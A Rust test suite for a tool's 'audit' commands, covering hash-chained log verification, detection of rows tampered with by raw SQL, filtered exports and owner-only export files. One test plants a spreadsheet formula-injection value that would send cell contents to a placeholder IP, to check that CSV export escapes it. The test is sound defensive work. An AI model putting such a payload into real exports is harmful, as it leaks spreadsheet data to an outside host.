//! `switchyard audit`: what is found, what is exported, and what an operator keeps.

use std::os::unix::fs::PermissionsExt as _;
use std::path::Path;

use rstest::rstest;
use serde_json::{Value, json};
use sqlx::Connection as _;
use switchyard::domain::digest::Digest;
use uuid::Uuid;

use super::host::{ACME, Host};

/// Changes the database behind the program's back.
fn tamper(host: &Host, sql: &'static str) {
    let url = format!("sqlite:{}", host.path("switchyard.db").display());
    tokio::runtime::Runtime::new().unwrap().block_on(async {
        let mut connection = sqlx::SqliteConnection::connect(&url).await.unwrap();
        sqlx::raw_sql(sql).execute(&mut connection).await.unwrap();
    });
}

/// What is written to standard output, when standard error holds the head and nothing else.
#[track_caller]
fn exported(host: &Host, more: &[&str]) -> String {
    let mut words = vec!["audit", "export"];
    words.extend(more);
    let ended = host.run(&words);
    assert_eq!((ended.code, ended.err.lines().count()), (0, 1), "{ended:?}");
    assert!(ended.err.contains(" entries; head "), "{}", ended.err);
    ended.out
}

fn entries(lines: &str) -> Vec<Value> {
    lines
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect()
}

fn actions(entries: &[Value]) -> Vec<&str> {
    entries
        .iter()
        .map(|entry| entry["action"].as_str().unwrap())
        .collect()
}

#[rstest]
#[case::sqlite(Host::ready())]
#[case::postgresql(Host::on_postgres())]
fn o61_the_log_is_verified_up_to_its_head_which_it_holds_from_then_on(#[case] host: Host) {
    let empty = host.json(&["audit", "verify"]);
    assert_eq!(
        (&empty["ok"], &empty["entries"], &empty["head"]["number"]),
        (&json!(true), &json!(0), &json!(0))
    );
    host.add_tenant();
    let report = host.json(&["audit", "verify"]);
    assert_eq!(
        (&report["ok"], &report["entries"], &report["findings"]),
        (&json!(true), &json!(2), &json!([]))
    );
    let head = &report["head"];
    assert_eq!(head["number"], 2);
    let digest = head["digest"].as_str().unwrap();
    let shown = host.ok(&["audit", "verify"]);
    assert_eq!(
        shown,
        format!("2 entries, each as it was written, 0 of them with a blanked payload\nhead 2 {digest}\n")
    );

    host.add_extension("1001", "Ann");
    for kept in [head, &empty["head"]] {
        let at = kept["number"].to_string();
        let digest = kept["digest"].as_str().unwrap();
        let again = host.json(&["audit", "verify", "--at", &at, "--head", digest]);
        assert_eq!((&again["ok"], &again["entries"]), (&json!(true), &json!(3)));
    }
    let ended = host.run(&["--json", "audit", "verify", "--at", "3", "--head", digest]);
    assert_eq!(ended.code, 14, "{ended:?}");
    let report: Value = serde_json::from_str(&ended.out).unwrap();
    assert_eq!(
        (&report["ok"], &report["findings"][0]["code"]),
        (&json!(false), &json!("not_the_kept"))
    );
    let error: Value = serde_json::from_str(&ended.err).unwrap();
    assert_eq!(error["error"]["code"], "audit_altered");
}

#[test]
fn o61_what_was_changed_is_named_with_the_entry() {
    let host = Host::with_tenant();
    host.add_extension("1001", "Ann");
    host.add_extension("1002", "Bob");
    tamper(&host, "update audit_entries set target_id = 'x' where number = 3");
    tamper(&host, "delete from audit_entries where number = 1");
    let ended = host.run(&["audit", "verify"]);
    assert_eq!(ended.code, 14, "{ended:?}");
    let lines: Vec<Vec<&str>> = ended
        .out
        .lines()
        .map(|line| line.split_whitespace().collect())
        .collect();
    assert_eq!(lines[0], ["ENTRY", "FAULT", "WHAT", "ID"]);
    assert_eq!(lines[1][..2], ["1", "removed"]);
    assert_eq!(lines[2][..2], ["3", "altered"]);
    assert!(Uuid::parse_str(lines[2].last().unwrap()).is_ok(), "{}", ended.out);
    assert_eq!(ended.err, "error: the audit log is not as it was written\n");
    // Also where nobody reads on.
    tamper(&host, "delete from audit_head");
    let ended = host.run(&["audit", "verify"]);
    assert!(
        ended.code == 14 && ended.out.ends_with("the head is gone\n"),
        "{ended:?}"
    );
}

/// The form in `docs/audit.md`: 0 for an absent part; 1, the length and the bytes for one that is there.
fn form(parts: &[Option<Vec<u8>>]) -> Vec<u8> {
    let mut form = Vec::new();
    for part in parts {
        let Some(bytes) = part else {
            form.push(0);
            continue;
        };
        form.push(1);
        form.extend(u64::try_from(bytes.len()).unwrap().to_le_bytes());
        form.extend(bytes);
    }
    form
}

#[rstest]
#[case::sqlite(Host::ready())]
#[case::postgresql(Host::on_postgres())]
fn o61_an_export_is_checked_by_what_the_page_says_alone(#[case] host: Host) {
    host.add_tenant();
    host.add_extension("1001", "Ann");
    let exported = exported(&host, &[]);
    let mut previous = vec![0; 32];
    for (entry, number) in entries(&exported).iter().zip(1_i64..) {
        let text = |value: &Value| value.as_str().map(|text| text.as_bytes().to_vec());
        let id = |value: &Value| {
            value
                .as_str()
                .map(|id| Uuid::parse_str(id).unwrap().as_bytes().to_vec())
        };
        let digest = |value: &Value| value.as_str().unwrap().parse::<Digest>().unwrap();
        let at: jiff::Timestamp = entry["at"].as_str().unwrap().parse().unwrap();
        assert_eq!(entry["number"], number);
        let bytes = form(&[
            Some(b"switchyard audit entry 1".to_vec()),
            Some(previous),
            Some(number.to_le_bytes().to_vec()),
            id(&entry["id"]),
            Some(at.as_microsecond().to_le_bytes().to_vec()),
            text(&entry["actor"]["kind"]),
            id(&entry["actor"]["id"]),
            Some(vec![u8::from(entry["operating_as"] == true)]),
            text(&entry["action"]),
            text(&entry["resource"]),
            text(&entry["target_id"]),
            id(&entry["tenant_id"]),
            Some(digest(&entry["payload_digest"]).as_bytes().to_vec()),
        ]);
        assert_eq!(
            digest(&entry["digest"]).as_bytes(),
            blake3::hash(&bytes).as_bytes(),
            "{entry}"
        );
        previous = digest(&entry["digest"]).as_bytes().to_vec();
    }
    let head = host.json(&["audit", "verify"])["head"].clone();
    assert_eq!(head["digest"], entries(&exported).last().unwrap()["digest"]);
}

#[test]
fn o61_an_export_holds_what_was_asked_for_the_oldest_first() {
    let host = Host::with_tenant();
    let id = host.add_extension("1001", "Ann")["id"].clone();
    host.ok(&["extension", "rotate", "--tenant", ACME, "1001"]);
    let everything = entries(&exported(&host, &[]));
    let all = [
        "instance.create",
        "tenant.create",
        "extension.create",
        "extension.rotate_secret",
    ];
    assert_eq!(actions(&everything), all);
    assert_eq!(everything[2]["target_id"], id);
    assert_eq!(
        everything[2]["actor"],
        json!({"kind": "system", "id": null, "name": "system:cli"})
    );
    let tenant = everything[1]["target_id"].as_str().unwrap();
    let time = |place: usize| everything[place]["at"].as_str().unwrap();
    for (filter, expected) in [
        (&["--tenant", ACME][..], &all[1..]),
        (&["--tenant-id", tenant], &all[1..]),
        (&["--action", "tenant.create"], &all[1..2]),
        (&["--resource", "extension"], &all[2..]),
        (&["--actor", "system:cli"], &all[..]),
        (&["--actor", "ann"], &[]),
        (&["--from", time(1), "--to", time(3)], &all[1..3]),
        (
            &[
                "--resource",
                "extension",
                "--tenant-id",
                "0198c0de-0000-7000-8000-000000000001",
            ],
            &[],
        ),
    ] {
        assert_eq!(
            actions(&entries(&exported(&host, filter))),
            expected,
            "{filter:?}"
        );
    }
    for (code, words, said) in [
        (4, &["--from", "yesterday"][..], "--from"),
        (
            4,
            &["--from", time(3), "--to", time(1)],
            "--to must be later than `from`",
        ),
        (4, &["--action", "Extension"], "--action"),
        (4, &["--tenant-id", "acme"], "--tenant-id"),
        (4, &["--format", "xml"], "--format"),
        (
            2,
            &["--tenant", ACME, "--tenant-id", tenant],
            "cannot be used with",
        ),
        (3, &["--tenant", "nobody.example.com"], "`switchyard tenant list`"),
    ] {
        let refused = host.refused(code, &[&["audit", "export"], words].concat());
        assert!(refused.contains(said), "{words:?}: {refused}");
    }
    for words in [&["--at", "3"][..], &["--head", &"0".repeat(64)]] {
        host.refused(2, &[&["audit", "verify"], words].concat());
    }
    host.refused(4, &["audit", "verify", "--at", "3", "--head", "0"]);
}

#[test]
fn o61_a_file_is_new_whole_and_its_owners_alone() {
    let host = Host::with_tenant();
    let path = host.path("audit.jsonl").display().to_string();
    let written = host.json(&["audit", "export", "--out", &path]);
    let head = host.json(&["audit", "verify"])["head"].clone();
    assert_eq!(written, json!({"entries": 2, "head": head, "file": path}));
    let text = std::fs::read_to_string(&path).unwrap();
    assert_eq!(text, exported(&host, &[]));
    let mode = std::fs::metadata(&path).unwrap().permissions().mode();
    assert_eq!(mode & 0o777, 0o600);

    host.add_extension("1001", "Ann");
    let refused = host.refused(5, &["audit", "export", "--out", &path]);
    assert!(refused.contains("is there already"), "{refused}");
    assert_eq!(std::fs::read_to_string(&path).unwrap(), text);
    let nowhere = Path::new(&path).join("x").display().to_string();
    let refused = host.refused(1, &["audit", "export", "--out", &nowhere]);
    assert!(
        refused.contains(&nowhere) && refused.contains("cannot be written"),
        "{refused}"
    );
}

#[test]
fn o61_a_spreadsheet_takes_no_cell_for_a_formula() {
    let host = Host::with_tenant();
    let evil = "=HYPERLINK(\"http://192.0.2.1/?x=\"&A1,\"click\")";
    host.run(&[
        "deploy",
        "apply",
        "--tenant",
        ACME,
        "--reason",
        evil,
        "--timeout",
        "1",
    ]);
    let table = exported(&host, &["--format", "csv"]);
    let mut reader = csv::Reader::from_reader(table.as_bytes());
    let headings: Vec<String> = reader.headers().unwrap().iter().map(str::to_owned).collect();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let column = |name: &str| headings.iter().position(|heading| heading == name).unwrap();
    assert_eq!(&rows[2][column("reason")], format!("'{evil}"));
    assert_eq!(&rows[2][column("action")], "config.deploy");
    for cell in rows.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell}");
    }
    // The same entries as in the other format.
    let lines = entries(&exported(&host, &[]));
    assert_eq!(lines.len(), rows.len());
    for (row, entry) in rows.iter().zip(&lines) {
        assert_eq!(entry["digest"], row[column("digest")]);
        assert_eq!(entry["number"].to_string(), row[column("number")]);
    }
    assert_eq!(host.json(&["audit", "verify"])["ok"], true);
}
